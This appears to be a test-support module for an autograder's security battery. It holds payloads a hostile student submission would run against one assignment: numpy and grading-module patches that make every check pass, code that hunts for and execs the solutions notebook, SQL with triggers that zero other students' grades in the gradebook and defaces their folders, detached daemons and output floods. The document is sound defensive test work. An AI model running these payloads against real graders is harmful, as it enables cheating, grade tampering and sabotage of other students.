"""The attacks of the trusted-autograde battery (support/trusted_battery.py): each function or
constant here is source text a hostile submission runs, for one assignment (ch02_activations).

They never reach outside the temporary course (they look for the gradebook only above their
working directory and at ``course``; they open it only if it exists), and what they start
carries ``marker`` on its command line so that the test can find and kill it. The print flood
and the background processes happen once per process (an environment variable remembers it).
"""

import textwrap
from pathlib import Path

ASSIGNMENT = "ch02_activations"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
# What the gradebook attacker writes into other students' folders: a file of this name, and
# this text appended to their notebooks.
TROPHY = "PWNED-by-rewrite_gradebook.txt"
CORRUPTION = "corrupted by rewrite_gradebook"
ATTACKER = "rewrite_gradebook"
FLOOD_BYTES = 50 * 2**20


# --- the attacks (each returns source text) -------------------------------------------------


def _patch_numpy(np_name):
    return textwrap.dedent(
        f"""\
        {np_name}.allclose = lambda *a, **k: True
        {np_name}.array_equal = lambda *a, **k: True
        {np_name}.isclose = lambda a, b, *args, **k: {np_name}.ones(
            {np_name}.broadcast({np_name}.asarray(a), {np_name}.asarray(b)).shape, dtype=bool
        )
        # NaN compares equal to NaN in the course's checks: make everything NaN.
        {np_name}.isnan = lambda x, *args, **k: {np_name}.ones({np_name}.shape(x), dtype=bool)
        {np_name}.testing.assert_allclose = lambda *a, **k: None
        {np_name}.testing.assert_array_equal = lambda *a, **k: None
        {np_name}.testing.assert_array_almost_equal = lambda *a, **k: None
        {np_name}.testing.assert_equal = lambda *a, **k: None
        """
    )


PATCH_BODY = "import numpy as _np\n" + _patch_numpy("_np")

SYSMODULES = textwrap.dedent(
    """\
    import sys as _sys
    import types as _types

    def _noop(*args, **kwargs):
        return None

    for _name in ("backproplab.grading", "trustedgrading.checks", "trustedgrading.checks.core"):
        _module = _sys.modules.get(_name)
        if _module is not None:
            for _attr in ("check", "check_case", "expect_close", "fail", "call_student"):
                if hasattr(_module, _attr):
                    setattr(_module, _attr, _noop)
    _fake = _types.ModuleType("backproplab.grading")
    _fake.check = _noop
    _fake.check_case = _noop
    _fake.expect_close = _noop
    _fake.fail = _noop
    _fake.CheckFailed = AssertionError
    _sys.modules["backproplab.grading"] = _fake
    _sys.modules["trustedgrading.checks"] = _fake
    _sys.modules["trustedgrading.checks.core"] = _fake
    """
)
# At a cell's top level the name the test cells call is rebound too.
SYSMODULES_TOP = SYSMODULES + "check = _noop\n"

# An object that claims to equal anything, and an array subclass that does the same.
ALWAYS_EQUAL_OBJECT = textwrap.dedent(
    """\
    import numpy as _np
    _shape = _np.shape(z)

    class _AlwaysEqual:
        __array_priority__ = 1e300
        shape = _shape
        ndim = len(_shape)
        size = int(_np.prod(_shape))
        dtype = _np.dtype(float)

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__

        def __hash__(self):
            return 0

        def __bool__(self):
            return True

        def __array__(self, dtype=None, copy=None):
            return _np.ones(_shape)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return self

        def __array_function__(self, func, types, args, kwargs):
            return self

        def __float__(self):
            return 1.0

        def __int__(self):
            return 1

        def __len__(self):
            return _shape[0] if _shape else 1

        def __getitem__(self, key):
            return self

        def __iter__(self):
            return iter([self] * len(self))

        def __abs__(self):
            return self

        def __neg__(self):
            return self

        def _self(self, *args, **kwargs):
            return self

        __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _self
        __truediv__ = __rtruediv__ = __pow__ = __rpow__ = _self
        astype = copy = reshape = ravel = max = min = sum = mean = _self

        def all(self, *args, **kwargs):
            return True

        def any(self, *args, **kwargs):
            return True

        def tolist(self):
            return _np.ones(_shape).tolist()

        def __repr__(self):
            return repr(_np.ones(_shape))

    return _AlwaysEqual()
    """
)
ALWAYS_EQUAL_ARRAY = textwrap.dedent(
    """\
    import numpy as _np

    class _Agreeable(_np.ndarray):
        __array_priority__ = 1e300

        def __eq__(self, other):
            return _np.ones(_np.shape(self), dtype=bool)

        def __ne__(self, other):
            return _np.zeros(_np.shape(self), dtype=bool)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return True

        def __array_function__(self, func, types, args, kwargs):
            return True

        def __float__(self):
            return 1.0

    return _np.ones(_np.shape(z)).view(_Agreeable)
    """
)


def _exec_solutions(wrong, course):
    """Look for the solutions notebook, exec the cell defining ``wrong.name``, return its
    result; the wrong code when nothing is found."""
    guesses = [
        f"../../../solutions/{ASSIGNMENT}/{NOTEBOOK}",
        f"../../solutions/{ASSIGNMENT}/{NOTEBOOK}",
        f"../solutions/{ASSIGNMENT}/{NOTEBOOK}",
        f"solutions/{ASSIGNMENT}/{NOTEBOOK}",
    ]
    if course is not None:
        guesses.append(str(Path(course) / "solutions" / ASSIGNMENT / NOTEBOOK))
    return textwrap.dedent(
        f"""\
        import json as _json
        import os as _os

        _guesses = {guesses!r}
        _here = _os.path.abspath(_os.getcwd())
        while True:
            _guesses.append(_os.path.join(_here, "solutions", {ASSIGNMENT!r}, {NOTEBOOK!r}))
            if _os.path.dirname(_here) == _here:
                break
            _here = _os.path.dirname(_here)
        for _path in _guesses:
            try:
                with open(_path, encoding="utf-8") as _file:
                    _cells = _json.load(_file)["cells"]
            except Exception:
                continue
            for _cell in _cells:
                _text = _cell.get("source", "")
                _text = "".join(_text) if isinstance(_text, list) else _text
                if "def {wrong.name}(" in _text:
                    _namespace = {{"np": __import__("numpy")}}
                    exec(_text, _namespace)
                    return _namespace[{wrong.name!r}]({wrong.args})
        """
    )


def _rewrite_gradebook(course, student=ATTACKER):
    """Find gradebook.db, give ``student`` full marks and everyone else 0 (now and, through a
    trigger, for every grade written later), and drop files into other students' folders."""
    places = ["../..", "../../../submitted", "../../../autograded", "../../../feedback"]
    guesses = []
    if course is not None:
        guesses.append(str(Path(course) / "gradebook.db"))
        places += [str(Path(course) / d) for d in ("submitted", "autograded", "feedback")]
    mine = (
        "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
        f"ON sn.assignment_id = sa.id WHERE sa.student_id = '{student}'"
    )
    return textwrap.dedent(
        f"""\
        import os as _os
        import sqlite3 as _sqlite3

        _dbs = {guesses!r}
        _here = _os.path.abspath(_os.getcwd())
        while True:
            _dbs.append(_os.path.join(_here, "gradebook.db"))
            if _os.path.dirname(_here) == _here:
                break
            _here = _os.path.dirname(_here)
        for _db in _dbs:
            if not _os.path.isfile(_db):
                continue  # never create one
            try:
                _con = _sqlite3.connect("file:" + _db + "?mode=rw", uri=True, timeout=1)
                _con.executescript(
                    "UPDATE grade SET manual_score = 0, auto_score = 0 "
                    "WHERE notebook_id NOT IN ({mine});"
                    "UPDATE grade SET needs_manual_grade = 0, manual_score = "
                    "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                    "WHERE notebook_id IN ({mine});"
                    "CREATE TRIGGER IF NOT EXISTS pwned_update AFTER UPDATE ON grade "
                    "WHEN NEW.notebook_id NOT IN ({mine}) "
                    "BEGIN UPDATE grade SET manual_score = 0 WHERE id = NEW.id; END;"
                    "CREATE TRIGGER IF NOT EXISTS pwned_insert AFTER INSERT ON grade "
                    "WHEN NEW.notebook_id NOT IN ({mine}) "
                    "BEGIN UPDATE grade SET manual_score = 0 WHERE id = NEW.id; END;"
                )
                _con.commit()
                _con.close()
            except Exception:
                pass
        for _place in {places!r}:
            try:
                _others = [o for o in _os.listdir(_place) if o != {student!r}]
            except Exception:
                continue
            for _other in _others:
                for _folder in (
                    _os.path.join(_place, _other),
                    _os.path.join(_place, _other, {ASSIGNMENT!r}),
                ):
                    try:
                        with open(_os.path.join(_folder, {TROPHY!r}), "w") as _file:
                            _file.write({CORRUPTION!r})
                    except Exception:
                        pass
                    _notebook = _os.path.join(_folder, {NOTEBOOK!r})
                    try:
                        if _os.path.isfile(_notebook):
                            with open(_notebook, "a") as _file:
                                _file.write({CORRUPTION!r})
                    except Exception:
                        pass
        """
    )


def _background(marker):
    """Start a detached sleeper and a double-forked daemon (once per process: every check
    calls the function many times), both with ``marker`` on their command line."""
    return textwrap.dedent(
        f"""\
        import os as _os
        import subprocess as _subprocess
        import sys as _sys
        import warnings as _warnings

        if "BATTERY_STARTED_{marker}" not in _os.environ:
            _os.environ["BATTERY_STARTED_{marker}"] = "1"
            _sleep = "import time; time.sleep(600)"
            _subprocess.Popen(
                [_sys.executable, "-c", _sleep, "{marker}"], start_new_session=True
            )
            with _warnings.catch_warnings():
                _warnings.simplefilter("ignore")  # fork() in a threaded process warns
                _pid = _os.fork()
            if _pid == 0:
                try:
                    _os.setsid()
                    if _os.fork() == 0:
                        _os.execv(_sys.executable, [_sys.executable, "-c", _sleep, "{marker}-d"])
                finally:
                    _os._exit(0)
            _os.waitpid(_pid, 0)
        """
    )


def _flood_once(marker):
    return textwrap.dedent(
        f"""\
        import os as _os

        if "BATTERY_FLOODED_{marker}" not in _os.environ:
            _os.environ["BATTERY_FLOODED_{marker}"] = "1"
            print(("flood " * 16 + "\\n") * ({FLOOD_BYTES} // 97))
        """
    )


FLOOD_TOP = f'print(("flood " * 16 + "\\n") * ({FLOOD_BYTES} // 97))\n'

SHADOW_NUMPY = 'raise ImportError("this numpy.py was handed in by the student")\n'
SHADOW_BACKPROPLAB = textwrap.dedent(
    """\
    # Handed in by the student: a fake reference package whose checks never fail and whose
    # activations are wrong.
    import sys
    import types

    __path__ = []
    grading = types.ModuleType("backproplab.grading")
    grading.check = lambda *args, **kwargs: None
    grading.CheckFailed = AssertionError
    sys.modules["backproplab.grading"] = grading
    activations = types.ModuleType("backproplab.activations")
    for _name in ("identity", "sigmoid", "tanh", "relu", "leaky_relu", "softmax"):
        setattr(activations, _name, lambda z, *args, **kwargs: 0.0)
        setattr(activations, _name + "_grad", lambda z, *args, **kwargs: 0.0)
    sys.modules["backproplab.activations"] = activations
    """
)
